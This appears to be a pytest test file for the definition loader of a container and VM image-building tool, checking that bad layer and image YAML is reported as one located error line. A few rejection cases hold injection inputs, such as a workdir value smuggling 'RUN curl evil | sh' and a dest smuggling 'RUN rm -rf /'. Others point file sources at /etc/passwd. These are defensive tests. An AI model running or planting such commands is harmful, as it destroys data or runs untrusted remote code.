"""The loader: every kind of definition error is one line, `path:line: message (hint)`."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from kilntest import REF, MakeProject, only_problem, problems_of, write_project

from kiln.load import Project, load_image, load_layer
from kiln.model import BootstrapBase, FileSpec, ImageBase, RefBase, RootfsBase

L = "layers/a/layer.yaml"
I = "images/i.yaml"  # noqa: E741
SHA = "0123456789abcdef" * 4

# (id, layers/a/layer.yaml, the one problem it gives). layers/a/files/x exists.
LAYER_ERRORS = [
    ("unknown key, did you mean", "pakages: [x]\n",
     f"{L}:1: unknown key 'pakages' (did you mean 'packages'?)"),
    ("unknown key in a record", "files:\n  - src: x\n    dest: /x\n    mdoe: 0644\n",
     f"{L}:4: unknown key 'mdoe' in files[0] (did you mean 'mode'?)"),
    ("unknown key in a healthcheck", "healthcheck:\n  test: [true]\n  retry: 3\n",
     f"{L}:3: unknown key 'retry' in healthcheck (did you mean 'retries'?)"),
    ("list expected", "description: ok\npackages: curl\n",
     f"{L}:2: packages: expected a list, got 'curl' (write one '- item' per line)"),
    ("mapping expected", "env: [A]\n", f"{L}:1: env: expected a mapping, got a list"),
    ("integer expected", "users:\n  - name: app\n    uid: ten\n",
     f"{L}:3: users[0].uid: expected an integer, got 'ten'"),
    ("quoted integer is not an integer", "groups:\n  - name: app\n    gid: \"10\"\n",
     f"{L}:3: groups[0].gid: expected an integer, got '10'"),
    ("string expected, got a mapping", "description:\n  a: 1\n",
     f"{L}:2: description: expected a string, got a mapping (quote the value)"),
    ("string expected, got null", "packages:\n  - curl\n  -\n",
     f"{L}:3: packages[1]: expected a string, got null (quote the value)"),
    ("exec form expected", "entrypoint: nginx -g daemon\n",
     f"{L}:1: entrypoint: expected a list (exec form), got a string "
     "(write [\"nginx\", ...] so signals reach the process)"),
    ("env name", "env:\n  1A: x\n",
     f"{L}:2: env: invalid name '1A' (use letters, digits and '_')"),
    ("layer name", "requires: [Core]\n",
     f"{L}:1: requires[0]: invalid name 'Core' (use lowercase letters, digits, '.', '_' and '-')"),
    ("port", "expose: [80, http]\n",
     f"{L}:1: expose[1]: invalid port 'http' (write 8080 or 53/udp)"),
    ("top level is a list", "- a\n", f"{L}:1: expected a mapping, got a list"),
    ("duplicate key", "packages: [a]\nrun: []\npackages: [b]\n",
     f"{L}:3: duplicate key 'packages' (first at line 1) "
     "(keep one; YAML would silently drop the other)"),
    ("duplicate nested key", "env:\n  A: x\n  A: y\n",
     f"{L}:3: duplicate key 'A' (first at line 2) (keep one; YAML would silently drop the other)"),
    ("anchor", "description: &d text\n",
     f"{L}:1: YAML anchor '&d' is not allowed (write the value out; reuse belongs in a layer)"),
    ("alias", "packages:\n  - *pkgs\n",
     f"{L}:2: YAML alias '*pkgs' is not allowed "
     "(write the value out; definitions must read the same to every tool)"),
    ("merge key", "env:\n  <<: {A: b}\n  B: c\n",
     f"{L}:2: YAML merge key '<<' is not allowed (write the keys out)"),
    ("standard tag", "description: !!str 1.10\n",
     f"{L}:1: explicit YAML tag 'tag:yaml.org,2002:str' is not allowed "
     "(remove the tag; quote the value if it must stay a string)"),
    ("custom tag", "run:\n  - !shell echo\n",
     f"{L}:2: explicit YAML tag '!shell' is not allowed "
     "(remove the tag; quote the value if it must stay a string)"),
    ("unclosed bracket", "packages: [a, b\nrun: []\n",
     f"{L}:2: invalid YAML: expected ',' or ']', but got ':' (check indentation and quoting)"),
    ("tab indentation", "packages:\n\t- a\n",
     f"{L}:2: invalid YAML: found character '\\t' that cannot start any token "
     "(check indentation and quoting)"),
    ("control character", "description: ok\nrun: [\"a\x01b\"]\n",
     f"{L}:2: invalid YAML: character #x0001 is not allowed "
     "(remove control characters from the file)"),
    ("two documents", "description: a\n---\ndescription: b\n",
     f"{L}: more than one YAML document (keep one definition per file)"),
    ("yes is no boolean", "users:\n  - name: app\n    system: yes\n",
     f"{L}:3: users[0].system: expected true or false, got 'yes' "
     "('yes' is a boolean only in YAML 1.1; write true or false)"),
    ("off is no boolean", "groups:\n  - name: app\n    system: off\n",
     f"{L}:3: groups[0].system: expected true or false, got 'off' "
     "('off' is a boolean only in YAML 1.1; write true or false)"),
    ("quoted true is no boolean", "users:\n  - name: app\n    system: \"true\"\n",
     f"{L}:3: users[0].system: expected true or false, got 'true' (write true or false)"),
    ("bad mode", "files:\n  - src: x\n    dest: /x\n    mode: 0999\n",
     f"{L}:4: files[0].mode: expected an octal file mode, got '0999' (write it like \"0644\")"),
    ("symbolic mode", "files:\n  - src: x\n    dest: /x\n    mode: rwxr-xr-x\n",
     f"{L}:4: files[0].mode: expected an octal file mode, got 'rwxr-xr-x' "
     "(write it like \"0644\")"),
    ("missing dest", "files:\n  - src: x\n", f"{L}:2: files[0]: missing required key 'dest'"),
    ("missing src", "files:\n  - dest: /x\n", f"{L}:2: files[0]: missing required key 'src'"),
    ("missing group name", "groups:\n  - gid: 5\n",
     f"{L}:2: groups[0]: missing required key 'name'"),
    ("missing healthcheck test", "healthcheck:\n  interval: 5s\n",
     f"{L}:2: healthcheck: missing required key 'test'"),
    ("missing param default", "params:\n  port:\n    type: integer\n",
     f"{L}:3: params.port: missing required key 'default'"),
    ("unknown param type", "params:\n  port:\n    type: number\n    default: 1\n",
     f"{L}:3: params.port.type: unknown type 'number' (use string, integer or boolean)"),
    ("param default of the wrong type",
     "params:\n  port:\n    type: integer\n    default: eighty\n",
     f"{L}:4: params.port.default: expected an integer, got 'eighty'"),
    ("param name", "params:\n  my-port:\n    type: integer\n    default: 1\n",
     f"{L}:2: params: invalid param name 'my-port' (use letters, digits and '_')"),
    ("absolute src", "files:\n  - src: /etc/passwd\n    dest: /x\n",
     f"{L}:2: files[0].src: '/etc/passwd' must be a path inside the layer's files/ folder "
     "(no absolute paths and no '..')"),
    ("src with ..", "files:\n  - src: ../layer.yaml\n    dest: /x\n",
     f"{L}:2: files[0].src: '../layer.yaml' must be a path inside the layer's files/ folder "
     "(no absolute paths and no '..')"),
    ("src with .. inside", "files:\n  - src: sub/../../layer.yaml\n    dest: /x\n",
     f"{L}:2: files[0].src: 'sub/../../layer.yaml' must be a path inside the layer's files/ "
     "folder (no absolute paths and no '..')"),
    ("src is the files folder", "files:\n  - src: ./\n    dest: /x\n",
     f"{L}:2: files[0].src: './' must be a path inside the layer's files/ folder "
     "(no absolute paths and no '..')"),
    ("missing file", "description: x\nfiles:\n  - src: x\n    dest: /x\n  - src: nope.conf\n"
     "    dest: /y\n",
     f"{L}:5: files[1].src: 'files/nope.conf' does not exist in a "
     "(create layers/a/files/nope.conf)"),
    ("relative dest", "files:\n  - src: x\n    dest: etc/x\n",
     f"{L}:3: files[0].dest: 'etc/x' must be an absolute path without '..' or control characters"),
    ("dest climbing out", "files:\n  - src: x\n    dest: /etc/../../root/x\n",
     f"{L}:3: files[0].dest: '/etc/../../root/x' must be an absolute path without '..' "
     "or control characters"),
    ("dest ending in ..", "files:\n  - src: x\n    dest: /etc/..\n",
     f"{L}:3: files[0].dest: '/etc/..' must be an absolute path without '..' "
     "or control characters"),
    ("dest with NUL", "files:\n  - src: x\n    dest: \"/etc/x\\0\"\n",
     f"{L}:3: files[0].dest: '/etc/x\\x00' must be an absolute path without '..' "
     "or control characters"),
    ("dest with a newline", "files:\n  - src: x\n    dest: \"/etc/x\\nRUN rm -rf /\"\n",
     f"{L}:3: files[0].dest: '/etc/x\\nRUN rm -rf /' must be an absolute path without '..' "
     "or control characters"),
    ("workdir with a newline", "workdir: \"/srv\\nRUN curl evil | sh\"\n",
     f"{L}:1: workdir: '/srv\\nRUN curl evil | sh' must be an absolute path without '..' "
     "or control characters"),
    ("relative volume", "volumes: [/data, data]\n",
     f"{L}:1: volumes[1]: 'data' must be an absolute path without '..' or control characters"),
]


@pytest.mark.parametrize(("text", "expected"), [c[1:] for c in LAYER_ERRORS],
                         ids=[c[0] for c in LAYER_ERRORS])
def test_layer_error_is_one_located_line(tmp_path: Path, text: str, expected: str) -> None:
    write_project(tmp_path, layers={"a": text}, files={"layers/a/files/x": "x\n"})
    assert only_problem(lambda: load_layer(tmp_path, "a")) == expected


def test_unknown_key_without_a_close_match_lists_the_known_keys(tmp_path: Path) -> None:
    write_project(tmp_path, layers={"a": "zzzzzz: 1\n"})
    problem = only_problem(lambda: load_layer(tmp_path, "a"))
    assert problem == (f"{L}:1: unknown key 'zzzzzz' (known keys: description, requires, "
                       "conflicts, params, packages, groups, users, files, env, run, workdir, "
                       "user, expose, volumes, entrypoint, cmd, stopsignal, healthcheck, labels, "
                       "secrets, tests, tmpfs, capabilities, mutable)")


def test_every_problem_of_a_file_is_reported_in_line_order(tmp_path: Path) -> None:
    write_project(tmp_path, layers={"a": "pakages: [x]\nenv: [A]\nuser: {a: 1}\n"})
    assert problems_of(lambda: load_layer(tmp_path, "a")) == [
        f"{L}:1: unknown key 'pakages' (did you mean 'packages'?)",
        f"{L}:2: env: expected a mapping, got a list",
        f"{L}:3: user: expected a string, got a mapping (quote the value)",
    ]


def test_anchor_and_alias_are_both_reported(tmp_path: Path) -> None:
    write_project(tmp_path, layers={"a": "packages: &p [a]\nrun: *p\n"})
    assert problems_of(lambda: load_layer(tmp_path, "a")) == [
        f"{L}:1: YAML anchor '&p' is not allowed (write the value out; reuse belongs in a layer)",
        f"{L}:2: YAML alias '*p' is not allowed "
        "(write the value out; definitions must read the same to every tool)",
    ]


def test_empty_layer_file_is_an_empty_layer(tmp_path: Path) -> None:
    write_project(tmp_path, layers={"a": ""})
    layer = load_layer(tmp_path, "a")
    assert (layer.name, layer.path, layer.packages, layer.user) == ("a", "layers/a", (), None)


# --- symbolic links ------------------------------------------------------------------------


def _link_project(tmp_path: Path, src: str) -> Path:
    write_project(tmp_path, layers={"a": f"description: links\nfiles:\n  - src: {src}\n"
                                          "    dest: /x/\n"},
                  files={"layers/a/files/dir/ok.txt": "ok\n", "layers/a/files/real/f": "f\n",
                         "secret.txt": "secret\n"})
    return tmp_path / "layers" / "a" / "files"


def test_symlink_leading_out_of_the_layer(tmp_path: Path) -> None:
    files = _link_project(tmp_path, "out.txt")
    (files / "out.txt").symlink_to(tmp_path / "secret.txt")
    assert only_problem(lambda: load_layer(tmp_path, "a")) == (
        f"{L}:3: files[0].src: 'files/out.txt' leads outside the layer "
        f"(to {(tmp_path / 'secret.txt').resolve()}) "
        "(copy the file into the layer instead of linking to it)")


def test_relative_symlink_leading_to_the_layer_definition(tmp_path: Path) -> None:
    files = _link_project(tmp_path, "up")
    (files / "up").symlink_to("../layer.yaml")
    problem = only_problem(lambda: load_layer(tmp_path, "a"))
    assert problem.startswith(f"{L}:3: files[0].src: 'files/up' leads outside the layer (to ")
    assert problem.endswith("/layers/a/layer.yaml) "
                            "(copy the file into the layer instead of linking to it)")


def test_symlink_inside_a_copied_folder_leading_out(tmp_path: Path) -> None:
    files = _link_project(tmp_path, "dir")
    (files / "dir" / "evil").symlink_to("/etc/passwd")
    assert only_problem(lambda: load_layer(tmp_path, "a")) == (
        f"{L}:3: files[0].src: 'files/dir/evil' leads outside the layer (to /etc/passwd) "
        "(copy the file into the layer instead of linking to it)")


def test_symlink_to_a_folder_inside_a_copied_folder(tmp_path: Path) -> None:
    files = _link_project(tmp_path, "dir")
    (files / "dir" / "alias").symlink_to("../real")
    assert only_problem(lambda: load_layer(tmp_path, "a")) == (
        f"{L}:3: files[0].src: 'files/dir/alias' is a link to a folder "
        "(copy the folder, or link each file)")


def test_symlink_staying_inside_the_layer_is_fine(tmp_path: Path) -> None:
    files = _link_project(tmp_path, "dir")
    (files / "dir" / "same").symlink_to("../real/f")
    layer = load_layer(tmp_path, "a")
    assert layer.files == (FileSpec("dir", "/x/"),)


# --- YAML 1.1 traps: what is kept as written --------------------------------------------------


def test_yaml11_words_and_numbers_stay_strings(tmp_path: Path) -> None:
    write_project(tmp_path, layers={"a": """
        packages: [no, yes, on, off, "true", 1.10, 0755]
        env:
          FLAG: on
          VERSION: 1.10
          EMPTY: ""
        labels:
          answer: no
          octal: 0o17
        user: "1000"
        """})
    layer = load_layer(tmp_path, "a")
    assert layer.packages == ("no", "yes", "on", "off", "true", "1.10", "0755")
    assert layer.env == (("FLAG", "on"), ("VERSION", "1.10"), ("EMPTY", ""))
    assert layer.labels == (("answer", "no"), ("octal", "0o17"))
    assert layer.user == "1000"


@pytest.mark.parametrize("spelling", ["0755", '"0755"', "755", "0o755", "'0o755'"])
def test_modes_are_octal_whatever_their_spelling(tmp_path: Path, spelling: str) -> None:
    write_project(tmp_path, layers={"a": f"files:\n  - {{src: x, dest: /x, mode: {spelling}}}\n"},
                  files={"layers/a/files/x": "x"})
    assert load_layer(tmp_path, "a").files[0].mode == 0o755


@pytest.mark.parametrize(("spelling", "mode"), [("644", 0o644), ("0600", 0o600),
                                                ("1777", 0o1777), ("04755", 0o4755)])
def test_other_modes(tmp_path: Path, spelling: str, mode: int) -> None:
    write_project(tmp_path, layers={"a": f"files:\n  - {{src: x, dest: /x, mode: {spelling}}}\n"},
                  files={"layers/a/files/x": "x"})
    assert load_layer(tmp_path, "a").files[0].mode == mode


def test_booleans_are_only_true_and_false(tmp_path: Path) -> None:
    write_project(tmp_path, layers={"a": "users:\n  - name: a\n    system: true\n"
                                         "  - name: b\n    system: false\n  - name: c\n"})
    assert [u.system for u in load_layer(tmp_path, "a").users] == [True, False, False]


def test_defaults_of_records(tmp_path: Path) -> None:
    write_project(tmp_path, layers={"a": """
        files:
          - {src: x, dest: /x}
        users:
          - name: app
        healthcheck:
          test: [true]
        expose: [80, 53/udp]
        """}, files={"layers/a/files/x": "x"})
    layer = load_layer(tmp_path, "a")
    assert layer.files[0] == FileSpec("x", "/x", 0o644, "root:root")
    user = layer.users[0]
    assert (user.uid, user.group, user.home, user.shell, user.system) == (
        None, None, None, "/usr/sbin/nologin", False)
    assert layer.healthcheck is not None
    hc = layer.healthcheck
    assert (hc.test, hc.interval, hc.timeout, hc.retries, hc.start_period) == (
        ("true",), "30s", "5s", 3, "5s")
    assert layer.expose == ("80/tcp", "53/udp")


# --- images --------------------------------------------------------------------------------

IMAGE_ERRORS = [
    ("missing base", "layers: [a]\n",
     f"{I}:1: missing required key 'base' (see docs/definitions.md)"),
    ("missing layers", f"base:\n  ref: {REF}\n",
     f"{I}:1: missing required key 'layers' (see docs/definitions.md)"),
    ("ref with a tag", "base:\n  ref: debian:bookworm\nlayers: [a]\n",
     f"{I}:2: base.ref: 'debian:bookworm' is not pinned by digest "
     "(write name@sha256:<64 hex digits>; a tag can move under you)"),
    ("ref without tag or digest", "layers: [a]\nbase:\n  ref: debian\n",
     f"{I}:3: base.ref: 'debian' is not pinned by digest "
     "(write name@sha256:<64 hex digits>; a tag can move under you)"),
    ("ref with a short digest", "base:\n  ref: debian@sha256:abc\nlayers: [a]\n",
     f"{I}:2: base.ref: 'debian@sha256:abc' is not pinned by digest "
     "(write name@sha256:<64 hex digits>; a tag can move under you)"),
    ("two base kinds", f"base:\n  ref: {REF}\n  image: other\nlayers: [a]\n",
     f"{I}:2: base: expected exactly one of bootstrap, image, ref, rootfs"),
    ("no base kind", "base: {}\nlayers: [a]\n",
     f"{I}:1: base: expected exactly one of bootstrap, image, ref, rootfs"),
    ("base kind misspelt", "base:\n  bootstrapp:\n    suite: bookworm\nlayers: [a]\n",
     f"{I}:2: unknown key 'bootstrapp' in base (did you mean 'bootstrap'?)"),
    ("base is a string", "base: debian\nlayers: [a]\n",
     f"{I}:1: base: expected a mapping, got 'debian'"),
    ("unknown variant",
     "base:\n  bootstrap:\n    suite: bookworm\n    variant: tiny\nlayers: [a]\n",
     f"{I}:4: base.bootstrap.variant: unknown variant 'tiny' (use one of extract, custom, "
     "essential, apt, required, minbase, buildd, important, standard)"),
    ("bootstrap without suite", "base:\n  bootstrap:\n    variant: minbase\nlayers: [a]\n",
     f"{I}:3: base.bootstrap: missing required key 'suite'"),
    ("bootstrap key misspelt", "base:\n  bootstrap:\n    suite: bookworm\n    mirrors: x\n"
     "layers: [a]\n",
     f"{I}:4: unknown key 'mirrors' in base.bootstrap (did you mean 'mirror'?)"),
    ("rootfs outside the project", f"base:\n  rootfs:\n    path: ../r.tar\n    sha256: {SHA}\n"
     "layers: [a]\n", f"{I}:3: base.rootfs.path: '../r.tar' must be inside the project"),
    ("rootfs absolute", f"base:\n  rootfs:\n    path: /r.tar\n    sha256: {SHA}\nlayers: [a]\n",
     f"{I}:3: base.rootfs.path: '/r.tar' must be inside the project"),
    ("rootfs checksum", "base:\n  rootfs:\n    path: r.tar\n    sha256: abc\nlayers: [a]\n",
     f"{I}:3: base.rootfs.sha256: expected 64 lowercase hex digits"),
    ("base image name", "base:\n  image: Base\nlayers: [a]\n",
     f"{I}:2: base.image: invalid name 'Base' (use lowercase letters, digits, '.', '_' and '-')"),
    ("unknown target", f"base:\n  ref: {REF}\nlayers: [a]\ntargets: [container, vmm]\n",
     f"{I}:4: targets[1]: unknown target 'vmm' (use container or vm)"),
    ("bad tag", f"base:\n  ref: {REF}\nlayers: [a]\ntags: [ok, 'not ok']\n",
     f"{I}:4: tags[1]: invalid tag 'not ok' (letters, digits, '_', '.', '-'; at most 128)"),
    ("param value is a list", f"base:\n  ref: {REF}\nlayers: [a]\nparams:\n  port: [1]\n",
     f"{I}:5: params.port: expected a string, integer or boolean, got a list"),
    ("unknown image key", f"base:\n  ref: {REF}\nlayers: [a]\nlayer: [b]\n",
     f"{I}:4: unknown key 'layer' (did you mean 'layers'?)"),
    ("layer-only key in an image", f"base:\n  ref: {REF}\nlayers: [a]\npackages: [b]\n",
     f"{I}:4: unknown key 'packages' (known keys: description, base, layers, params, targets, "
     "version, tags, labels, tests, unrestricted, audit_min_index)"),
]


@pytest.mark.parametrize(("text", "expected"), [c[1:] for c in IMAGE_ERRORS],
                         ids=[c[0] for c in IMAGE_ERRORS])
def test_image_error_is_one_located_line(tmp_path: Path, text: str, expected: str) -> None:
    write_project(tmp_path, layers={"a": ""}, images={"i": text})
    assert only_problem(lambda: load_image(tmp_path, "i")) == expected


@pytest.mark.parametrize(("base", "expected"), [
    ("bootstrap:\n    suite: bookworm",
     BootstrapBase("bookworm", "minbase", "http://deb.debian.org/debian", ("main",), ())),
    ("bootstrap:\n    suite: trixie\n    variant: apt\n    components: [main, contrib]\n"
     "    packages: [systemd]\n    mirror: http://mirror.example/debian",
     BootstrapBase("trixie", "apt", "http://mirror.example/debian", ("main", "contrib"),
                   ("systemd",))),
    ("image: base", ImageBase("base")),
    (f"ref: {REF}", RefBase(REF)),
    (f"rootfs:\n    path: rootfs/r.tar.gz\n    sha256: {SHA}", RootfsBase("rootfs/r.tar.gz", SHA)),
])
def test_base_kinds(tmp_path: Path, base: str, expected: object) -> None:
    write_project(tmp_path, images={"i": f"base:\n  {base}\nlayers: [a]\n"})
    assert load_image(tmp_path, "i").base == expected


def test_image_values_are_kept_as_written(tmp_path: Path) -> None:
    write_project(tmp_path, images={"i": f"""
        base:
          ref: {REF}
        layers: [a, b]
        version: 1.10
        tags: [1.10, no]
        params:
          port: 8080
          debug: false
          name: no
          release: 1.10
          umask: 0027
          quoted: "8080"
        labels:
          on: off
        """})
    image = load_image(tmp_path, "i")
    assert image.version == "1.10"
    assert image.tags == ("1.10", "no")
    assert image.targets == ("container",)
    assert image.params == (("port", 8080), ("debug", False), ("name", "no"),
                            ("release", "1.10"), ("umask", "0027"), ("quoted", "8080"))
    assert image.labels == (("on", "off"),)


def test_project_reports_every_problem_of_every_file(make_project: MakeProject) -> None:
    project = make_project(layers={"a": "pakages: []\n", "b": "env: []\n", "ok": ""},
                           images={"i": "layers: [a]\n",
                                   "j": f"base: {{ref: {REF}}}\nlayers: [ok]\n"})
    assert problems_of(project.check_all) == [
        "images/i.yaml:1: missing required key 'base' (see docs/definitions.md)",
        "layers/a/layer.yaml:1: unknown key 'pakages' (did you mean 'packages'?)",
        "layers/b/layer.yaml:1: env: expected a mapping, got a list",
    ]


def test_unknown_image(make_project: MakeProject) -> None:
    project = make_project(images={"one": f"base: {{ref: {REF}}}\nlayers: []\n"})
    with pytest.raises(Exception, match=re.escape(
            "images/two.yaml: no such image (known images: one)")):
        project.image("two")


def test_project_find_uses_the_nearest_project(tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    write_project(tmp_path)
    (tmp_path / "layers" / "deep").mkdir()
    monkeypatch.delenv("KILN_PROJECT", raising=False)
    assert Project.find(tmp_path / "layers" / "deep").root == tmp_path.resolve()
    monkeypatch.setenv("KILN_PROJECT", os.fspath(tmp_path / "layers"))
    assert Project.find(tmp_path).root == (tmp_path / "layers").resolve()
